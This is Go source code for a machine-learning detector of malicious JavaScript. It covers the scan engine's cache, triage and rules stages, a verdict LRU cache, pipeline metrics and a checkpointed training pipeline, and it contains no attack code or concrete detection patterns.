// provenance feeds the audit trail; it stays zero-valued (and costs
// nothing) when auditing is disabled.
func (e *Engine) scanSource(ctx context.Context, ins *instruments, name, src string) (Result, provenance) {
	ctx, res, prov, key, state := e.scanSourceFront(ctx, ins, nil, name, src)
	if state == frontDone {
		return res, prov
	}
	fctx, cancel := context.WithTimeout(ctx, e.cfg.Timeout)
	defer cancel()
	csrc := src
	if e.deobOn(ctx) {
		// Normalization shares the per-file deadline with classification:
		// a pathological input cannot buy itself extra wall time by being
		// expensive to deobfuscate. The classifier sees the normalized
		// source; caching, auditing, and degradation keep using src.
		csrc, res.DeobPasses = e.normalizeSource(fctx, src)
		prov.deobPasses = res.DeobPasses
	}
	if prov.rset != nil {
		// Full rules pass, post-deobfuscation: signatures and lists see the
		// raw bytes, the normalized source, and (when a rule needs it) the
		// AST. A forcing hit or allow-list clear answers here without ever
		// running the model; annotation hits ride along on its verdict.
		rv := e.evalRules(fctx, prov.rset, name, src, csrc)
		res.RuleHits = rv.Hits
		switch rv.Action {
		case rules.ActionMalicious:
			return e.finishRules(ctx, res, prov, key, true)
		case rules.ActionBenign:
			return e.finishRules(ctx, res, prov, key, false)
		}
	}
	malicious, err := e.classify(fctx, csrc)
	return e.finishScan(ctx, res, prov, key, src, malicious, err)
}

// frontState is scanSourceFront's outcome.
type frontState int

const (
	// frontDone: res is final (guard failure, cache hit, or triage clear).
	frontDone frontState = iota
	// frontPipeline: the caller owns the pipeline run and must finish with
	// finishScan.
	frontPipeline
	// frontFollower: byte-identical content is already pipeline-bound in
	// this batch (see batchDedup); finalize after the batch, when the
	// leader's verdict has landed in the cache.
	frontFollower
)

// scanSourceFront runs everything that comes before the full pipeline: the
// size guard, the verdict cache, batch deduplication, the pre-triage
// deny-list stage, and the triage tier. The returned context carries the
// stage-timing collector when auditing and must be used for the pipeline.
func (e *Engine) scanSourceFront(ctx context.Context, ins *instruments, dedup *batchDedup, name, src string) (context.Context, Result, provenance, cacheKey, frontState) {
	res := Result{Path: name, Bytes: int64(len(src))}
	var prov provenance
	var key cacheKey
	auditing := e.cfg.Audit != nil
	alerting := e.cfg.Alert != nil
	if auditing {
		prov.cache = "off"
		prov.stages = obs.NewStageTimings()
		ctx = obs.WithStageTimings(ctx, prov.stages)
	}
	if int64(len(src)) > e.cfg.MaxBytes {
		// Oversized inputs never reach the rules layer: the pipeline only
		// ever sees a prefix, and a deny verdict must answer for the whole
		// input or not at all.
		cause := fmt.Errorf("%w: input is %d bytes (limit %d)",
			ErrTooLarge, len(src), e.cfg.MaxBytes)
		res.Verdict, res.Malicious, res.Err = e.degrade(ctx, src[:e.cfg.MaxBytes], cause)
		res.Tier = tierFor(res.Verdict, false)
		if auditing {
			// Digest the full input, not the scanned prefix: the audit line
			// must answer for the content as submitted.
			prov.sha = hexKey(contentKey(src))
			prov.tier = res.Tier
		}
		return ctx, res, prov, key, frontDone
	}
	// The rule set is read once per scan and pinned in the provenance: a hot
	// reload mid-scan must never mix generations within one file. Generation
	// 0 means rules are disabled.
	prov.rset = e.currentRules()
	gen := prov.rset.Generation()
	if e.cache != nil || auditing || alerting {
		key = contentKey(src)
		if auditing || alerting {
			prov.sha = hexKey(key)
		}
	}
	if e.cache != nil {
		if ent, ok := e.cache.get(key); ok {
			// A cached triage clear is only as strong a claim as the triage
			// tier itself: an engine running without triage must recompute,
			// not alias it to a full verdict. Likewise a pipeline verdict
			// only answers for the deobfuscation setting it ran under —
			// serving a raw-source verdict to a deobfuscating scan (or the
			// reverse) would alias two different pipelines. Triage entries
			// are deob-agnostic: triage always scores the raw bytes. And
			// every entry answers only for the rule generation it was
			// computed under: after a reload the whole cache goes stale,
			// because the new rules could flip any verdict.
			servable := ent.tier != TierTriage || e.triage != nil
			if ent.tier != TierTriage && ent.deob != e.deobOn(ctx) {
				servable = false
			}
			if ent.rulesGen != gen {
				servable = false
			}
			if servable {
				ins.cacheHit.Inc()
				res.Verdict, res.Malicious = ent.verdict, ent.malicious
				res.Tier = TierCache
				res.RuleHits = ent.ruleHits
				if auditing {
					prov.cache, prov.tier, prov.cacheTier = "hit", TierCache, ent.tier
				}
				return ctx, res, prov, key, frontDone
			}
		}
		if dedup != nil && !dedup.claim(key) {
			// Byte-identical content is already bound for the pipeline in
			// this batch. Don't parse it again: finalize this one after the
			// batch, when the leader's verdict sits in the cache. Hit/miss
			// accounting happens then, on the re-check.
			return ctx, res, prov, key, frontFollower
		}
		ins.cacheMis.Inc()
		if auditing {
			prov.cache = "miss"
		}
	}
	if prov.rset != nil {
		// Pre-triage deny stage: deny-list IOCs match on the raw bytes, so a
		// deny-listed indicator convicts before triage can clear the script
		// — a deny verdict must not depend on the lexical score. Signatures
		// wait for the full rules pass after deobfuscation (scanSource),
		// where they see the normalized source and the AST.
		if rv := prov.rset.EvalText(ctx, src); rv.Action == rules.ActionMalicious {
			res.Verdict, res.Malicious = VerdictMalicious, true
			res.Tier = TierRules
			res.RuleHits = rv.Hits
			if e.cache != nil {
				e.cache.put(key, res.Verdict, res.Malicious, TierRules, e.deobOn(ctx), gen, rv.Hits)
			}
			if auditing {
				prov.tier = TierRules
			}
			return ctx, res, prov, key, frontDone
		}
	}
	if e.triage != nil && e.triage.Clear(src) {
		// The lexical pre-filter found nothing suspicious: short-circuit to
		// benign without parsing. Triage never flags — everything it cannot
		// clear escalates to the pipeline below the caller.
		res.Verdict, res.Malicious = VerdictBenign, false
		res.Tier = TierTriage
		if e.cache != nil {
			e.cache.put(key, res.Verdict, res.Malicious, TierTriage, false, gen, nil)
		}
		if auditing {
			prov.tier = TierTriage
		}
		return ctx, res, prov, key, frontDone
	}
	return ctx, res, prov, key, frontPipeline
}

// finishScan turns a pipeline outcome into the final result: clean verdicts
// are cached as pipeline-tier entries, failures degrade to the fallback.
func (e *Engine) finishScan(ctx context.Context, res Result, prov provenance, key cacheKey, src string, malicious bool, err error) (Result, provenance) {
	auditing := e.cfg.Audit != nil
	if err == nil {
		res.Malicious = malicious
		if malicious {
			res.Verdict = VerdictMalicious
		} else {
			res.Verdict = VerdictBenign
		}
		res.Tier = TierPipeline
		if e.cache != nil {
			e.cache.put(key, res.Verdict, res.Malicious, TierPipeline, e.deobOn(ctx), prov.rset.Generation(), res.RuleHits)
		}
		if auditing {
			prov.tier = TierPipeline
		}
		return res, prov
	}
	res.Verdict, res.Malicious, res.Err = e.degrade(ctx, src, err)
	res.Tier = tierFor(res.Verdict, false)
	if auditing {
		prov.tier = res.Tier
	}
	return res, prov
}

// classify runs the full pipeline in an isolated goroutine: panics become
// ErrInternal, and the select enforces the deadline even against a
// classifier that ignores ctx (the cooperative parser cancellation bounds
// how long such a goroutine can linger).
func (e *Engine) classify(ctx context.Context, src string) (bool, error) {
	type outcome struct {
		malicious bool
		err       error
	}
	ch := make(chan outcome, 1)
	go func() {
		defer func() {
			if r := recover(); r != nil {
				ch <- outcome{err: fmt.Errorf("%w: panic: %v", ErrInternal, r)}
			}
		}()
		lim := parser.Limits{MaxDepth: e.cfg.MaxDepth, MaxTokens: e.cfg.MaxTokens}
		var malicious bool
		var err error
		if lc, ok := e.c.(LimitedClassifier); ok {
			malicious, err = lc.DetectWithLimits(ctx, src, lim)
		} else {
			malicious, err = e.c.DetectCtx(ctx, src)
		}
		ch <- outcome{malicious: malicious, err: classifyError(err, ctx)}
	}()
	select {
	case o := <-ch:
		return o.malicious, o.err
	case <-ctx.Done():
		return false, fmt.Errorf("%w: %v", ErrTimeout, ctx.Err())
	}
}

// degrade produces the fallback verdict for a file whose full-pipeline run
// failed with cause. The fallback runs with panic isolation and without the
// (already spent) per-file deadline.
func (e *Engine) degrade(ctx context.Context, src string, cause error) (Verdict, bool, error) {
	if e.cfg.NoFallback {
		return VerdictFailed, false, cause
	}
	ctx, sp := obs.StartSpan(ctx, "scan.fallback")
	defer sp.End()
	malicious, err := func() (v bool, err error) {
		defer func() {
			if r := recover(); r != nil {
				err = fmt.Errorf("fallback panic: %v", r)
			}
		}()
		return e.cfg.Fallback.DetectCtx(ctx, src)
	}()
	if err != nil {
		return VerdictFailed, false, fmt.Errorf("%w (fallback also failed: %v)", cause, err)
	}
	return VerdictDegraded, malicious, cause
}

// readPrefix reads at most n bytes from path.
func readPrefix(path string, n int64) (string, error) {
	f, err := os.Open(path)
	if err != nil {
		return "", err
	}
	defer f.Close()
	buf := make([]byte, n)
	read, err := io.ReadFull(f, buf)
	if err != nil && !errors.Is(err, io.ErrUnexpectedEOF) && !errors.Is(err, io.EOF) {
		return "", err
	}
	return string(buf[:read]), nil
}

// summarize computes aggregate statistics over one run's results.
func summarize(results []Result, wall time.Duration) Stats {
	s := Stats{Scanned: len(results), Wall: wall}
	durs := make([]time.Duration, 0, len(results))
	for _, r := range results {
		switch r.Verdict {
		case VerdictDegraded:
			s.Degraded++
		case VerdictFailed:
			s.Failed++
		}
		if r.Tier == TierTriage {
			s.Triaged++
		}
		if len(r.DeobPasses) > 0 {
			s.Deobfuscated++
		}
		if len(r.RuleHits) > 0 {
			s.RuleMatched++
		}
		if r.Malicious && r.Verdict != VerdictFailed {
			s.Flagged++
		}
		switch Reason(r.Err) {
		case "parse":
			s.ParseErrors++
		case "timeout":
			s.Timeouts++
		case "too_large":
			s.TooLarge++
		case "depth_limit":
			s.DepthLimit++
		case "internal":
			s.Internal++
		}
		durs = append(durs, r.Duration)
	}
	if len(durs) > 0 {
		sort.Slice(durs, func(i, j int) bool { return durs[i] < durs[j] })
		s.P50 = durs[len(durs)/2]
		s.P99 = durs[(len(durs)*99)/100]
	}
	return s
}
