// Verdict cache: real corpora are full of byte-identical scripts (bundled
// library copies, CDN mirrors, repeated submissions), and the full pipeline
// is deterministic for a given engine, so a scan of content the engine has
// already classified can skip parse, extraction, and embedding entirely.
// The cache is a serving-layer optimisation — it changes cost, never
// verdicts — and only clean full-pipeline outcomes (benign/malicious) are
// stored: degraded and failed results depend on transient conditions
// (deadlines, resource pressure) and must be recomputed.
package scan

import (
	"container/list"
	"sync"

	"jsrevealer/internal/rules"
)

// DefaultCacheSize bounds the verdict cache when Config.CacheSize is 0.
// An entry is a 32-byte digest, two words of verdict, and list/map
// bookkeeping (~150 bytes), so the default costs well under a megabyte.
const DefaultCacheSize = 4096

// Entries are keyed by cacheKey, the SHA-256 digest of the content (see
// hash.go). A cryptographic digest matters here: a constructible collision
// would let an attacker alias a malicious script to a cached benign
// verdict, so the key's collision resistance is a security property of the
// detector, not a statistical nicety.

// cacheEntry is one cached clean verdict. tier records which tier produced
// it (TierTriage, TierPipeline, or TierRules): a triage-tier entry is a
// weaker claim than a full-pipeline one, and the engine refuses to serve it
// when its own triage is disabled — a cached triage clear must never alias a
// full verdict (see Engine.scanSourceFront). deob records whether the
// pipeline classified deobfuscation-normalized source; a pipeline entry is
// only served to scans running under the same setting, since the two
// pipelines can legitimately disagree about the same bytes. rulesGen is the
// rule-set generation the verdict was computed under (0 with rules
// disabled): after a rule reload every entry from the previous generation
// goes stale, because the new set could flip any verdict — including cached
// triage clears, which the pre-triage deny stage would otherwise never
// re-examine. ruleHits replays rule provenance on a hit, so a cache-served
// verdict explains itself exactly like the scan that produced it.
type cacheEntry struct {
	key       cacheKey
	verdict   Verdict
	malicious bool
	tier      string
	deob      bool
	rulesGen  uint64
	ruleHits  []rules.Hit
}

// verdictCache is a bounded, concurrency-safe LRU of clean verdicts.
type verdictCache struct {
	mu  sync.Mutex
	cap int
	ll  *list.List // front = most recently used; values are *cacheEntry
	m   map[cacheKey]*list.Element
}

func newVerdictCache(capacity int) *verdictCache {
	return &verdictCache{
		cap: capacity,
		ll:  list.New(),
		m:   make(map[cacheKey]*list.Element, capacity),
	}
}

// get returns a copy of the cached entry for key, refreshing its recency.
func (c *verdictCache) get(key cacheKey) (cacheEntry, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.m[key]
	if !ok {
		return cacheEntry{}, false
	}
	c.ll.MoveToFront(el)
	return *el.Value.(*cacheEntry), true
}

// put stores a clean verdict, evicting the least recently used entry when
// full. Concurrent scans of identical content may race to put the same key;
// the second write wins, which is harmless because both computed the same
// deterministic verdict.
func (c *verdictCache) put(key cacheKey, verdict Verdict, malicious bool, tier string, deob bool, rulesGen uint64, hits []rules.Hit) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.m[key]; ok {
		ent := el.Value.(*cacheEntry)
		// A full-pipeline or rules verdict never downgrades to a triage
		// one: the stronger claim stays — unless the stronger entry is from
		// a stale rule generation, in which case the fresh claim wins.
		if !(ent.tier != TierTriage && tier == TierTriage && ent.rulesGen == rulesGen) {
			ent.verdict, ent.malicious, ent.tier, ent.deob = verdict, malicious, tier, deob
			ent.rulesGen, ent.ruleHits = rulesGen, hits
		}
		c.ll.MoveToFront(el)
		return
	}
	c.m[key] = c.ll.PushFront(&cacheEntry{key: key, verdict: verdict, malicious: malicious, tier: tier, deob: deob, rulesGen: rulesGen, ruleHits: hits})
	for c.ll.Len() > c.cap {
		last := c.ll.Back()
		c.ll.Remove(last)
		delete(c.m, last.Value.(*cacheEntry).key)
	}
}

// Len reports the current entry count (tests and diagnostics).
func (c *verdictCache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ll.Len()
}
