package core

import (
	"context"
	"sync/atomic"
	"time"

	"jsrevealer/internal/obs"
)

// StageDurationMetric is the histogram family receiving one observation
// per pipeline stage per call, labelled by stage. It lands in the registry
// carried by the call's context (obs.Default() otherwise), which is what
// `jsrevealer serve` exposes on /metrics.
const StageDurationMetric = "jsrevealer_stage_duration_seconds"

const stageDurationHelp = "Pipeline stage durations in seconds, per call."

// Per-detector accounting metrics (private registry; see stageAccount).
const (
	stageNanosMetric    = "jsrevealer_detector_stage_nanos_total"
	filesProcessedMetric = "jsrevealer_detector_files_processed_total"
)

// stage enumerates the instrumented pipeline stages. The split is finer
// than StageTimings: lexing vs parsing and data-flow vs traversal are
// separately attributable, and StageTimings sums them back for the
// compatibility view.
type stage int

const (
	stgLex stage = iota
	stgParse
	stgDataFlow
	stgTraverse
	stgPreTrain
	stgEmbed
	stgOutlier
	stgCluster
	stgFit
	stgClassify
	numStages
)

var stageNames = [numStages]string{
	"lex", "parse", "dataflow", "traverse", "pretrain",
	"embed", "outlier", "cluster", "fit", "classify",
}

// RegisterStageMetrics pre-creates every per-stage duration series in reg
// with zero observations, so an exposition endpoint shows the full metric
// surface before the first script is processed.
func RegisterStageMetrics(reg *obs.Registry) {
	for s := stage(0); s < numStages; s++ {
		reg.Histogram(StageDurationMetric, stageDurationHelp,
			obs.DefDurationBuckets, obs.Labels{"stage": stageNames[s]})
	}
}

// observeStage records one stage duration into reg's shared histogram.
func observeStage(reg *obs.Registry, s stage, d time.Duration) {
	reg.Histogram(StageDurationMetric, stageDurationHelp,
		obs.DefDurationBuckets, obs.Labels{"stage": stageNames[s]}).ObserveDuration(d)
}

// stageAccount is a detector's cumulative stage accounting: one counter of
// nanoseconds per stage plus a files-processed counter, held in a private
// registry. This replaces the old mutex-guarded StageTimings field —
// accumulation is now lock-free atomic adds, and StageTimings is derived
// on demand as a read-only view (see stageAccount.view).
type stageAccount struct {
	reg   *obs.Registry
	nanos [numStages]*obs.Counter
	files *obs.Counter
}

func newStageAccount() *stageAccount {
	a := &stageAccount{reg: obs.NewRegistry()}
	for s := stage(0); s < numStages; s++ {
		a.nanos[s] = a.reg.Counter(stageNanosMetric,
			"Cumulative stage time in nanoseconds.", obs.Labels{"stage": stageNames[s]})
	}
	a.files = a.reg.Counter(filesProcessedMetric, "Scripts processed.", nil)
	return a
}

func (a *stageAccount) add(s stage, d time.Duration) { a.nanos[s].Add(int64(d)) }

func (a *stageAccount) addFile() { a.files.Inc() }

// clone returns an independent account seeded with a's current values, so
// detectors built from one Prepared don't share accumulation.
func (a *stageAccount) clone() *stageAccount {
	n := newStageAccount()
	for s := stage(0); s < numStages; s++ {
		n.nanos[s].Add(a.nanos[s].Value())
	}
	n.files.Add(a.files.Value())
	return n
}

// view derives the paper-shaped StageTimings from the counters. The finer
// internal split sums back into the original fields: EnhancedAST is
// lex+parse, PathTraversal is dataflow+traversal.
func (a *stageAccount) view() StageTimings {
	n := func(s stage) time.Duration { return time.Duration(a.nanos[s].Value()) }
	return StageTimings{
		EnhancedAST:    n(stgLex) + n(stgParse),
		PathTraversal:  n(stgDataFlow) + n(stgTraverse),
		PreTraining:    n(stgPreTrain),
		Embedding:      n(stgEmbed),
		OutlierDet:     n(stgOutlier),
		Clustering:     n(stgCluster),
		Training:       n(stgFit),
		Classifying:    n(stgClassify),
		FilesProcessed: int(a.files.Value()),
	}
}

// record charges one stage duration to both the detector's cumulative
// account and the shared per-call histogram of the context's registry.
func (d *Detector) record(ctx context.Context, s stage, dur time.Duration) {
	d.account().add(s, dur)
	observeStage(obs.FromContext(ctx), s, dur)
}

// ---------------------------------------------------------------------------
// Training metrics
// ---------------------------------------------------------------------------

// Training-pipeline metric families, registered in the registry carried by
// the Prepare call's context. A long fit driven through `jsrevealer train`
// (or any caller passing an obs.WithRegistry context) exposes live progress
// through these.
const (
	// TrainStageDurationMetric observes each completed preparation stage's
	// wall-clock once, labelled by stage (extract, pretrain, embed, outlier).
	TrainStageDurationMetric = "jsrevealer_train_stage_duration_seconds"
	// TrainScriptsMetric counts extracted training scripts by result
	// (parsed, failed).
	TrainScriptsMetric = "jsrevealer_train_scripts_total"
	// TrainProgressMetric is the fraction of corpus scripts extracted so
	// far, a 0..1 gauge for dashboards and long-fit sanity checks.
	TrainProgressMetric = "jsrevealer_train_progress_ratio"
	// TrainCheckpointsMetric counts checkpoint files written, by stage.
	TrainCheckpointsMetric = "jsrevealer_train_checkpoints_total"
)

const (
	trainStageDurationHelp = "Completed training-stage durations in seconds."
	trainScriptsHelp       = "Training scripts extracted, by parse result."
	trainProgressHelp      = "Fraction of corpus scripts extracted so far."
	trainCheckpointsHelp   = "Training checkpoints written, by stage."
)

// RegisterTrainMetrics pre-creates the training metric surface in reg so an
// exposition endpoint shows every family before the first stage completes.
func RegisterTrainMetrics(reg *obs.Registry) {
	for _, s := range []string{"extract", "pretrain", "embed", "outlier"} {
		reg.Histogram(TrainStageDurationMetric, trainStageDurationHelp,
			obs.DefDurationBuckets, obs.Labels{"stage": s})
	}
	reg.Counter(TrainScriptsMetric, trainScriptsHelp, obs.Labels{"result": "parsed"})
	reg.Counter(TrainScriptsMetric, trainScriptsHelp, obs.Labels{"result": "failed"})
	reg.Gauge(TrainProgressMetric, trainProgressHelp, nil)
	for _, s := range checkpointStages {
		reg.Counter(TrainCheckpointsMetric, trainCheckpointsHelp, obs.Labels{"stage": string(s)})
	}
}

// trainMetrics instruments one preparation run. Script completions arrive
// from many extraction workers at once, so the done count is atomic and
// everything else routes through the registry's lock-free series.
type trainMetrics struct {
	reg   *obs.Registry
	total int
	done  atomic.Int64
}

// newTrainMetrics binds a run's instrumentation to the context's registry.
func newTrainMetrics(ctx context.Context, totalScripts int) *trainMetrics {
	reg := obs.FromContext(ctx)
	RegisterTrainMetrics(reg)
	return &trainMetrics{reg: reg, total: totalScripts}
}

// scriptDone records one extracted script and advances the progress gauge.
// Safe to call from any extraction worker.
func (t *trainMetrics) scriptDone(parsed bool) {
	result := "parsed"
	if !parsed {
		result = "failed"
	}
	t.reg.Counter(TrainScriptsMetric, trainScriptsHelp, obs.Labels{"result": result}).Inc()
	if t.total > 0 {
		done := t.done.Add(1)
		t.reg.Gauge(TrainProgressMetric, trainProgressHelp, nil).Set(float64(done) / float64(t.total))
	}
}

// stageDone records one completed stage's wall-clock.
func (t *trainMetrics) stageDone(stage string, d time.Duration) {
	t.reg.Histogram(TrainStageDurationMetric, trainStageDurationHelp,
		obs.DefDurationBuckets, obs.Labels{"stage": stage}).ObserveDuration(d)
}

// checkpointed records one checkpoint write.
func (t *trainMetrics) checkpointed(stage CheckpointStage) {
	t.reg.Counter(TrainCheckpointsMetric, trainCheckpointsHelp,
		obs.Labels{"stage": string(stage)}).Inc()
}
