package core

import (
	"context"
	"errors"
	"fmt"
	"time"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/ml/nn"
	"jsrevealer/internal/ml/outlier"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/par"
)

// CheckpointConfig controls training checkpoints. The zero value disables
// checkpointing entirely.
type CheckpointConfig struct {
	// Dir is the checkpoint directory; each stage writes its own file there
	// (see CheckpointPath). Empty disables checkpoint writes.
	Dir string
	// Resume loads the latest valid stage checkpoint from Dir before
	// fitting, skipping every stage it covers. Resume with state from a
	// different corpus or configuration fails loudly; a missing checkpoint
	// simply starts fresh.
	Resume bool
}

// Prepare runs the K-independent training stages: extraction, embedding
// pre-training, script embedding, pooling, and outlier filtering. It is
// PrepareCtx without cancellation.
func Prepare(train []Sample, pretrain []Sample, opts Options) (*Prepared, error) {
	return PrepareCtx(context.Background(), train, pretrain, opts)
}

// PrepareCtx is Prepare with cooperative cancellation: extraction and
// embedding fan-outs, pre-training epochs, and stage boundaries all check
// ctx, so a SIGINT-backed context interrupts a long fit promptly. It is
// PrepareCheckpointed without checkpoints.
func PrepareCtx(ctx context.Context, train []Sample, pretrain []Sample, opts Options) (*Prepared, error) {
	return PrepareCheckpointed(ctx, train, pretrain, opts, CheckpointConfig{})
}

// PrepareCheckpointed is PrepareCtx with stage checkpointing: after path
// extraction, after embedding, and after outlier filtering the pipeline
// state is written to ck.Dir, and with ck.Resume a later run continues from
// the latest stage that completed. Combined with a signal-cancelled ctx this
// makes long fits interruptible: the stages already checkpointed are never
// repeated.
//
// The heavy stages fan out over opts.TrainWorkers goroutines (<= 0 means
// all CPUs). Parallelism is a wall-clock knob only: for a fixed Seed the
// returned Prepared — and any Detector built from it — is bit-identical at
// any worker count and across checkpoint resumes (see Detector.Fingerprint).
func PrepareCheckpointed(ctx context.Context, train []Sample, pretrain []Sample, opts Options, ck CheckpointConfig) (*Prepared, error) {
	if len(train) == 0 {
		return nil, errors.New("core: empty training set")
	}
	if ctx == nil {
		ctx = context.Background()
	}
	if pretrain == nil {
		pretrain = train
	}
	workers := par.Workers(opts.TrainWorkers)
	if opts.Embedding.TrainWorkers == 0 {
		// Thread the pipeline worker bound into minibatch pre-training
		// unless the caller pinned it explicitly. With BatchSize <= 1 the
		// knob is inert (per-sample SGD is inherently serial).
		opts.Embedding.TrainWorkers = workers
	}
	model, err := nn.NewModel(opts.Embedding)
	if err != nil {
		return nil, fmt.Errorf("core: embedding: %w", err)
	}
	st := &prepState{
		d:         &Detector{opts: opts, acct: newStageAccount()},
		opts:      opts,
		workers:   workers,
		ck:        ck,
		tm:        newTrainMetrics(ctx, len(pretrain)+len(train)),
		corpusDig: corpusDigest(train, pretrain),
		optsDig:   optionsDigest(opts),
		model:     model,
	}

	var resumed CheckpointStage
	if ck.Resume {
		if ck.Dir == "" {
			return nil, errors.New("core: resume requires a checkpoint directory")
		}
		cj, err := loadLatest(ck.Dir, st.corpusDig, st.optsDig)
		if err != nil {
			return nil, err
		}
		if cj != nil {
			st.restore(cj)
			resumed = cj.Stage
		}
	}
	if resumed == StagePrepared {
		return st.finish(), nil
	}
	if resumed == "" {
		if err := st.runExtract(ctx, train, pretrain); err != nil {
			return nil, err
		}
		if err := st.checkpoint(StageExtracted); err != nil {
			return nil, err
		}
	}
	if resumed == "" || resumed == StageExtracted {
		if err := st.runEmbed(ctx); err != nil {
			return nil, err
		}
		if err := st.checkpoint(StageEmbedded); err != nil {
			return nil, err
		}
	}
	if err := st.runOutlier(ctx); err != nil {
		return nil, err
	}
	p := st.finish()
	if err := st.checkpoint(StagePrepared); err != nil {
		return nil, err
	}
	return p, nil
}

// prepState is the preparation pipeline's mutable state, advanced stage by
// stage. Every field a stage writes is exactly what the matching checkpoint
// serializes, so restore is the inverse of the stages it skips.
type prepState struct {
	d       *Detector // carries stage accounting + parse-failure count
	opts    Options
	workers int
	ck      CheckpointConfig
	tm      *trainMetrics

	corpusDig, optsDig string

	model       *nn.Model
	pre         []scriptKeys // pretrain scripts reduced to path keys
	trainEx     []scriptKeys // training scripts: keys + path strings
	embs        []embedded
	pools       [2]pooled // 0 benign, 1 malicious
	outlierName string
}

// runExtract parses every pretrain and train script and reduces it to path
// keys (stage 1+2 of the paper's pipeline). Scripts fan out over the worker
// pool; each script writes only its own slot, so the collected order — and
// therefore everything downstream — is independent of the worker count. A
// script that fails to parse, or whose extraction panics, is dropped and
// counted as a parse failure, mirroring the scan engine's per-task panic
// isolation.
func (st *prepState) runExtract(ctx context.Context, train, pretrain []Sample) error {
	start := time.Now()
	type slot struct {
		sk scriptKeys
		ok bool
	}
	nPre := len(pretrain)
	results := make([]slot, nPre+len(train))
	err := par.ForCtx(ctx, st.workers, len(results), func(i int) {
		var s Sample
		isTrain := i >= nPre
		if isTrain {
			s = train[i-nPre]
		} else {
			s = pretrain[i]
		}
		sk, ok := st.extractOne(ctx, s, isTrain)
		results[i] = slot{sk: sk, ok: ok}
		st.tm.scriptDone(ok)
	})
	if err != nil {
		return fmt.Errorf("core: extraction interrupted: %w", err)
	}
	st.pre = make([]scriptKeys, 0, nPre)
	st.trainEx = make([]scriptKeys, 0, len(train))
	for i, r := range results {
		if !r.ok {
			st.d.parseFailures++
			continue
		}
		if i < nPre {
			st.pre = append(st.pre, r.sk)
		} else {
			st.trainEx = append(st.trainEx, r.sk)
		}
	}
	if len(st.trainEx) == 0 {
		return errors.New("core: no training script parsed")
	}
	st.tm.stageDone("extract", time.Since(start))
	return nil
}

// extractOne reduces one script to its path keys (and, for training
// scripts, the printable path strings that feed feature provenance). A
// panic anywhere in lexing, parsing, or extraction is contained to this
// script and reported as a failure.
func (st *prepState) extractOne(ctx context.Context, s Sample, wantDescs bool) (sk scriptKeys, ok bool) {
	defer func() {
		if recover() != nil {
			sk, ok = scriptKeys{}, false
		}
	}()
	ex, err := st.d.extract(ctx, s.Source, parser.Limits{})
	if err != nil {
		return scriptKeys{}, false
	}
	sk.Malicious = s.Malicious
	sk.Keys = make([]nn.PathKey, len(ex.paths))
	if wantDescs {
		sk.Descs = make([]string, len(ex.paths))
	}
	for i, p := range ex.paths {
		sk.Keys[i] = st.model.KeyOf(p.ComponentHashes())
		if wantDescs {
			sk.Descs[i] = p.String()
		}
	}
	return sk, true
}

// runEmbed pre-trains the embedding model on the pretrain scripts, embeds
// the training scripts in parallel, and builds the per-class path-vector
// pools (stage 2 of the paper's pipeline). Pooling iterates scripts in
// corpus order, so pool contents are reproducible regardless of how the
// embedding fan-out was scheduled.
func (st *prepState) runEmbed(ctx context.Context) error {
	nnSamples := make([]nn.Sample, len(st.pre))
	for i, sk := range st.pre {
		nnSamples[i] = nn.Sample{Keys: sk.Keys, Malicious: sk.Malicious}
	}
	_, sp := obs.StartSpan(ctx, "pretrain")
	_, err := st.model.TrainCtx(ctx, nnSamples)
	dur := sp.End()
	st.d.record(ctx, stgPreTrain, dur)
	if err != nil {
		return fmt.Errorf("core: pre-training interrupted: %w", err)
	}
	st.tm.stageDone("pretrain", dur)

	_, sp = obs.StartSpan(ctx, "embed")
	st.embs = make([]embedded, len(st.trainEx))
	err = par.ForCtx(ctx, st.workers, len(st.trainEx), func(i int) {
		st.embs[i] = embedded{embs: st.model.Embed(st.trainEx[i].Keys), malicious: st.trainEx[i].Malicious}
	})
	dur = sp.End()
	st.d.record(ctx, stgEmbed, dur)
	if err != nil {
		return fmt.Errorf("core: embedding interrupted: %w", err)
	}
	st.tm.stageDone("embed", dur)

	// Pool per-class path vectors with their path strings.
	st.pools = [2]pooled{}
	for i, e := range st.embs {
		cls := 0
		if e.malicious {
			cls = 1
		}
		for j, emb := range e.embs {
			st.pools[cls].vecs = append(st.pools[cls].vecs, emb.Vector)
			st.pools[cls].descs = append(st.pools[cls].descs, st.trainEx[i].Descs[j])
		}
	}
	for c := 0; c < 2; c++ {
		if st.opts.MaxPoolPerClass > 0 && len(st.pools[c].vecs) > st.opts.MaxPoolPerClass {
			idx := strideSample(len(st.pools[c].vecs), st.opts.MaxPoolPerClass)
			nv := make([][]float64, len(idx))
			nd := make([]string, len(idx))
			for k, i := range idx {
				nv[k] = st.pools[c].vecs[i]
				nd[k] = st.pools[c].descs[i]
			}
			st.pools[c].vecs, st.pools[c].descs = nv, nd
		}
	}
	return nil
}

// runOutlier removes outlying path vectors from both pools (stage 3 of the
// paper's pipeline), with MetaOD-style detector auto-selection when
// configured. Scoring fans out inside the detectors; the kept-index sets
// are bit-identical at any worker count.
func (st *prepState) runOutlier(ctx context.Context) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	var det outlier.Detector = &outlier.FastABOD{Workers: st.workers}
	if st.opts.AutoSelectOutlier {
		sel, err := outlier.SelectDetector(st.pools[0].vecs, outlier.CandidatesWithWorkers(st.workers))
		if err == nil {
			det = sel
		}
	}
	st.outlierName = det.Name()
	_, sp := obs.StartSpan(ctx, "outlier")
	for c := 0; c < 2; c++ {
		kept, err := outlier.Filter(st.pools[c].vecs, det, st.opts.OutlierFraction)
		if err != nil {
			continue // too few points: keep everything
		}
		nv := make([][]float64, len(kept))
		nd := make([]string, len(kept))
		for k, i := range kept {
			nv[k] = st.pools[c].vecs[i]
			nd[k] = st.pools[c].descs[i]
		}
		st.pools[c].vecs, st.pools[c].descs = nv, nd
	}
	dur := sp.End()
	st.d.record(ctx, stgOutlier, dur)
	st.tm.stageDone("outlier", dur)
	return nil
}

// finish assembles the Prepared from the completed (or restored) state.
func (st *prepState) finish() *Prepared {
	return &Prepared{
		opts:                st.opts,
		model:               st.model,
		embs:                st.embs,
		pools:               st.pools,
		OutlierDetectorName: st.outlierName,
		acct:                st.d.acct,
		parseFailures:       st.d.parseFailures,
		corpusDigest:        st.corpusDig,
		optsDigest:          st.optsDig,
	}
}

